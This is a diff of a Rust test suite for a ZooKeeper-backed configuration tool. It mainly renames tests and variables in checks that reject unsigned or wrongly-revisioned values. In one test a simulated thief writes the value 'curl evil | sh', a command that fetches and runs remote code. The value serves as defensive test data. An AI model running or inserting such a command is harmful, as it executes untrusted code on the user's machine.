@@ -86,7 +86,7 @@ in_both_stores! {
     a_value_counts_only_if_its_server_has_signed_it_for_its_entry: Stack::of("values", ZooKeeper::shared(), wired),
     what_comes_after_a_component_believes_its_server_only: Stack::of("after", ZooKeeper::shared(), wired),
     what_a_server_publishes_counts_by_the_key_that_was_admitted: Stack::of("keyed", ZooKeeper::shared(), wired),
-    a_revision_that_nobody_was_told_of_stops_nobody: Stack::of("ahead", ZooKeeper::shared(), wired),
+    a_revision_that_nobody_announced_stops_nobody: Stack::of("ahead", ZooKeeper::shared(), wired),
     a_key_that_was_replaced_gets_nothing_again: Stack::of("replaced_key", ZooKeeper::shared(), wired),
     a_failure_that_fills_a_node_keeps_nobody_from_saying_so: Stack::of("full_failure", ZooKeeper::shared(), wired),
     a_value_that_does_not_fit_is_named: Stack::of("unfit", ZooKeeper::shared(), wired),
@@ -203,12 +203,12 @@ async fn a_value_of_another_stack_is_its_servers_as_well() {
     apply(&operator, &exports, &exporter.options).await.expect("applies");
     // What the exports say is the operator's word, too.
     let layout = Space::new(operator.clone(), "exporting").layout().clone();
-    let told = operator.get(&layout.export("text")).await.expect("reads").expect("it is there");
-    let unsigned = wattle_tests::seeds::unsigned(&told.data);
+    let written = operator.get(&layout.export("text")).await.expect("reads").expect("it is there");
+    let unsigned = wattle_tests::seeds::unsigned(&written.data);
     operator.set(&layout.export("text"), unsigned, None).await.expect("the password is enough");
     let refused = apply(&operator, &importer.seed, &importer.options).await.expect_err("nobody has signed it");
     assert!(refused.to_string().contains("apply the seed of `exporting` with `--restore` first"), "{refused}");
-    operator.set(&layout.export("text"), &told.data, None).await.expect("the password is enough");
+    operator.set(&layout.export("text"), &written.data, None).await.expect("the password is enough");
     apply(&operator, &importer.seed, &importer.options).await.expect("applies");
 
     let thief = exporter.stolen().await;
@@ -225,7 +225,7 @@ async fn a_value_of_another_stack_is_its_servers_as_well() {
 }
 
 #[tokio::test]
-async fn an_operator_is_told_and_may_put_a_value_of_their_own() {
+async fn an_operator_is_informed_and_may_put_a_value_of_their_own() {
     let zookeeper = ZooKeeper::start(1);
     let stack = Stack::of("by_hand", &zookeeper, wired);
     let stage = Stage::new(&stack.model);
@@ -239,8 +239,8 @@ async fn an_operator_is_told_and_may_put_a_value_of_their_own() {
     put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
     let got = wattle(&["get", "db/part/text"]);
     assert_eq!(got.code, Some(1), "{got}");
-    let told = "`db/part/text` has no value: db/part: what is there is not trusted: its server has not signed it\n";
-    assert!(got.err.contains(told), "{got}");
+    let expected = "`db/part/text` has no value: db/part: what is there is not trusted: its server has not signed it\n";
+    assert!(got.err.contains(expected), "{got}");
     let set = wattle(&["set", "db/part/text", "by hand", "--force"]);
     assert_eq!(set.code, Some(0), "{set}");
     assert_eq!(wattle(&["get", "db/part/text"]).out, "by hand\n");
@@ -285,7 +285,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
 }
 
 /// A server says of its own entries that they are of a revision which is never to come, so that whoever reads them stops for ever.
-async fn a_revision_that_nobody_was_told_of_stops_nobody(stack: Stack) {
+async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     let operator = stack.operator().await;
     apply(&operator, &stack.seed, &stack.options).await.expect("applies");
     let (now, thief, signer) = (stack.revision("db").await, stack.stolen().await, stack.signer("db"));
@@ -310,8 +310,9 @@ async fn a_revision_that_nobody_was_told_of_stops_nobody(stack: Stack) {
         for (agent, server, node) in [(&mut web, "web", "entries/db/part/text"), (&mut last, "last", "status/db/part")]
         {
             agent.start(&stack).await;
-            let told = format!("{node}` is not trusted: it claims to be of a revision that its server has never seen");
-            says(&stack, server, Some(&told)).await;
+            let expected =
+                format!("{node}` is not trusted: it claims to be of a revision that its server has never seen");
+            says(&stack, server, Some(&expected)).await;
         }
         for mut agent in [web, last] {
             agent.kill().await;
